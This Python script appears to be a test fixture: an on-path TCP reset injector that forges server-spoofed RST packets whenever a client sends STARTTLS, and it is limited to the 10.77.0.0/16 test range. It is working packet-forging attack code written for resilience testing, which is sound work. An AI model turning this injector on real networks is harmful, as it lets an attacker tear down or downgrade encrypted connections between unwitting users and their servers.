#!/usr/bin/env python3
"""An on-path RST injector (the kind Weaver, Sommer and Paxson describe in
"Detecting Forged TCP Reset Packets", NDSS 2009): it watches the middlebox's
client-side interface, and when a client sends STARTTLS to PORT it forges a RST
to the client with the server's address and next sequence number, but lets the
command through: the real server still answers, after the forged RST.

usage: mb_inject.py IFACE PORT
Runs in the middlebox namespace of tests/integration/middlebox.t; forges
packets only towards 10.77.0.0/16. Prints "ready" once the sockets are open."""
import socket, struct, sys

iface, port = sys.argv[1], int(sys.argv[2])
ETH_P_IP = 0x0800
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
sniff.bind((iface, 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def forge_rst(src, dst, sport, dport, seq, ack):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, 0x14, 0, 0, 0)  # RST|ACK
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    # IP ID 0x4242: a forger does not know the server's counter (0 would be filled in by the kernel)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x4242, 0x4000, 64, 6, 0, src, dst)
    return ip + tcp


print("ready", flush=True)
while True:
    frame, addr = sniff.recvfrom(65535)
    if addr[2] == socket.PACKET_OUTGOING:
        continue
    ip = frame[14:]
    if len(ip) < 20 or ip[9] != 6:
        continue
    ihl = (ip[0] & 15) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:total]
    if len(tcp) < 20:
        continue
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    doff = (tcp[12] >> 4) * 4
    payload = tcp[doff:]
    if dport != port or not payload.upper().startswith(b"STARTTLS"):
        continue
    src, dst = ip[12:16], ip[16:20]
    if not (src.startswith(bytes([10, 77])) and dst.startswith(bytes([10, 77]))):
        continue
    # from the server to the client: the server's next byte is what the client acknowledged
    pkt = forge_rst(dst, src, dport, sport, ack, seq + len(payload))
    raw.sendto(pkt, (socket.inet_ntoa(src), 0))
